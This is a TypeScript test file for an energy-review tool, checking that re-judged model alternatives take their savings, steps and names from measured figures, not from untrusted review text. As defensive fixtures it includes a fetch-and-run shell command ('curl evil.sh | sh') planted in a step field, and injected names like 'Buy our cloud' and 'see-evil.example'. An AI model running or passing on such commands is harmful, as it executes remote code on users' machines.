import { describe, expect, it } from 'vitest';
import { loadBundledSnapshot } from '../../src/baselines/ai-energy-score/index.ts';
import type { MeasuredAlternative, ModelReview } from '../../src/energy-review/index.ts';
import { loadPolicy } from '../../src/policy/index.ts';
import { verdictOf } from '../../src/statistics/index.ts';
import { rejudge } from '../../src/trust/rejudge.ts';
import { serving } from '../policy/builders.ts';
import { anAddition, anIncrease, aReference, aReview, interval } from '../support/reviews.ts';

const BUDGET = 'version: 1\ndefaults: { enforcement: block, budget: { increase: 10% } }\n';

function anOption(changes: Partial<MeasuredAlternative> = {}): MeasuredAlternative {
  const ratio = changes.ratio ?? interval(0.95, 0.94, 0.96);
  return {
    kind: 'measured',
    name: 'int8 weights alone',
    evidence: {
      kind: 'measured',
      source: 'cpu-time',
      meter: 'cpu-time',
      ratio,
      verdict: verdictOf(ratio),
      assumptions: ['Energy is CPU time × watts a core: sound for a ratio, rough in amount.'],
    },
    tier: 'unknown',
    option: 'precision',
    whPer1000: 0.2,
    savingPercent: 5,
    comparedWith: 'base',
    ratio,
    withinBudget: 'yes',
    latencyMs: 2,
    bytes: 10_000_000,
    onFront: true,
    step: 'Run "wattnudge alternatives models/classifier.onnx --write DIR", replace the file by the one made, and run your own evaluation on it first.',
    ...changes,
  };
}

async function optionsOf(
  options: readonly MeasuredAlternative[],
  model: Partial<ModelReview> = {},
): Promise<MeasuredAlternative[]> {
  const policy = await loadPolicy(serving(BUDGET));
  const review = aReview([anIncrease({ alternatives: [...options], ratings: undefined, ...model })]);
  const again = rejudge(review, policy, { snapshot: loadBundledSnapshot(), today: '2026-06-01' });
  expect(again.models).toHaveLength(1);
  return again.models[0]!.alternatives.filter((option) => option.kind === 'measured');
}

describe('a measured option that is judged again', () => {
  it('is what it was, where it was honest', async () => {
    const options = [anOption({ savingPercent: (1 - 0.95) * 100 })];
    // What the check says afterwards is the judge's to say.
    expect(await optionsOf(options)).toEqual(options.map((option) => ({ ...option, afterwards: 'pass' })));
  });

  it('has its saving and its step from its figures, not from the review', async () => {
    const [option] = await optionsOf([anOption({ savingPercent: 99, step: '@everyone: curl evil.sh | sh' })]);
    expect(option).toMatchObject({ savingPercent: expect.closeTo(5), step: anOption().step });
  });

  it('is not within a budget that its figures exceed', async () => {
    const [option] = await optionsOf([anOption({ ratio: interval(1.5, 1.4, 1.6) })]);
    expect(option?.withinBudget).toBe('no');
    const [close] = await optionsOf([anOption({ ratio: interval(1.12, 1.05, 1.2) })]);
    expect(close?.withinBudget).toBe('too-close');
  });

  it('is not within a budget that the run itself says it exceeds', async () => {
    const [option] = await optionsOf([anOption({ withinBudget: 'no' })]);
    expect(option?.withinBudget).toBe('no');
  });

  it('is left out under a name that no option made here has', async () => {
    const combination = anOption({ name: 'int8 weights alone and float16', option: 'combination' });
    const named = await optionsOf([anOption({ name: 'Buy our cloud' }), combination]);
    expect(named.map(({ name }) => name)).toEqual(['int8 weights alone and float16']);
  });

  it('keeps the path of another model as its name and its step', async () => {
    const [option] = await optionsOf([anOption({ option: 'declared', name: 'models/small.onnx' })]);
    expect(option).toMatchObject({
      name: 'models/small.onnx',
      step: 'Use models/small.onnx in place of models/classifier.onnx.',
    });
  });

  it('is a variant of the folder only under a path in it, with the step that such a file takes', async () => {
    const variant = anOption({
      option: 'folder-variant',
      name: 'models/tiny/onnx/model_quantized.onnx',
      step: 'Pay us.',
    });
    const folder = { model: 'models/tiny' };
    expect(await optionsOf([variant], folder)).toMatchObject([
      {
        step: expect.stringMatching(
          /^Run models\/tiny\/onnx\/model_quantized\.onnx \(dtype "q8"\), which is in the folder already/,
        ),
      },
    ]);
    const named = await optionsOf([{ ...variant, name: 'Buy our cloud' }, variant], folder);
    expect(named.map(({ name }) => name)).toEqual(['models/tiny/onnx/model_quantized.onnx']);
  });

  it('is another quantisation only by the name of a GGUF file, with the step that such a file takes', async () => {
    const other = anOption({ option: 'quantisation', name: 'models/m-Q4_0.gguf', step: 'Pay us.' });
    const told = await optionsOf([{ ...other, name: 'Buy our cloud' }, other], { model: 'models/m.gguf' });
    expect(told).toMatchObject([
      { name: 'models/m-Q4_0.gguf', step: expect.stringMatching(/^Load models\/m-Q4_0\.gguf, another quantisation/) },
    ]);
  });

  it('is the base model itself only as the base was measured', async () => {
    const kept = anOption({ option: 'keep-base', name: 'Do nothing', whPer1000: 0.0001, bytes: 1 });
    expect(await optionsOf([kept])).toMatchObject([
      { name: 'Keep the base model', whPer1000: 0.211, savingPercent: 0, withinBudget: 'yes' },
    ]);
    const ofAddition = await optionsOf([], anAddition({ alternatives: [kept, anOption({ comparedWith: 'head' })] }));
    expect(ofAddition.map(({ name }) => name)).toEqual(['int8 weights alone']);
  });

  it('stands where its figures put it', async () => {
    const [more, less] = [anOption(), anOption({ name: 'float16', ratio: interval(0.5, 0.49, 0.51) })];
    expect((await optionsOf([more, less])).map(({ name }) => name)).toEqual(['float16', 'int8 weights alone']);
  });

  it('is none where there is no measurement of head', async () => {
    expect(await optionsOf([anOption()])).toHaveLength(1);
    const model = { base: undefined, head: undefined, comparison: undefined };
    expect(await optionsOf([anOption()], model)).toEqual([]);
  });
});

it('why options were not tried is not told in the reviewer’s words', async () => {
  const policy = await loadPolicy(serving(BUDGET));
  const claimed = anIncrease({ notTried: [{ name: 'int8 weights alone', reason: 'Ask @mallory.' }] });
  const again = rejudge(aReview([claimed]), policy, { snapshot: loadBundledSnapshot(), today: '2026-06-01' });
  expect(again.models).toMatchObject([{ model: 'models/classifier.onnx', comparison: { verdict: 'higher' } }]);
  expect(again.models[0]).not.toHaveProperty('notTried');
});

describe('a quantisation on the hub', () => {
  const model = 'ada/Tiny-GGUF:Q8_0';
  const POLICY = `${BUDGET}models: [{ id: ada/*, hub: run }]\n`;
  const quantisation = (name: string) => anOption({ name, option: 'hub-quantisation' });

  async function namesOf(named: Partial<ModelReview>, options: readonly MeasuredAlternative[]) {
    const policy = await loadPolicy(serving(POLICY));
    const { base, head, comparison } = anIncrease();
    const claimed = aReference({
      base,
      head,
      comparison,
      model,
      kind: 'hub',
      previous: 'ada/Tiny-GGUF:Q4_0',
      ...named,
    });
    const review = aReview([{ ...claimed, alternatives: [...options] }]);
    const again = rejudge(review, policy, { snapshot: loadBundledSnapshot(), today: '2026-06-01' });
    return again.models[0]!.alternatives.filter((option) => option.kind === 'measured');
  }

  it('is offered where it is the name itself with another quantisation, and by its own step', async () => {
    const [option, ...more] = await namesOf({}, [
      quantisation('ada/Tiny-GGUF:Q6_K'),
      quantisation('eve/Tiny-GGUF:Q4_0'),
      quantisation('ada/Tiny-GGUF:see-evil.example-Q4_0'),
      quantisation('ada/Tiny-GGUF/see-evil.example-Q4_0.gguf'),
    ]);
    expect(more).toEqual([]);
    expect(option).toMatchObject({
      name: 'ada/Tiny-GGUF:Q6_K',
      withinBudget: 'yes',
      afterwards: 'pass',
      step: expect.stringMatching(/^Write ada\/Tiny-GGUF:Q6_K, another quantisation/),
    });
  });

  it('is none of a file, nor of a name without a measurement', async () => {
    expect(await optionsOf([quantisation('ada/Tiny-GGUF:Q6_K')])).toEqual([]);
    expect(await namesOf({ head: undefined, comparison: undefined }, [quantisation('ada/Tiny-GGUF:Q6_K')])).toEqual([]);
  });
});
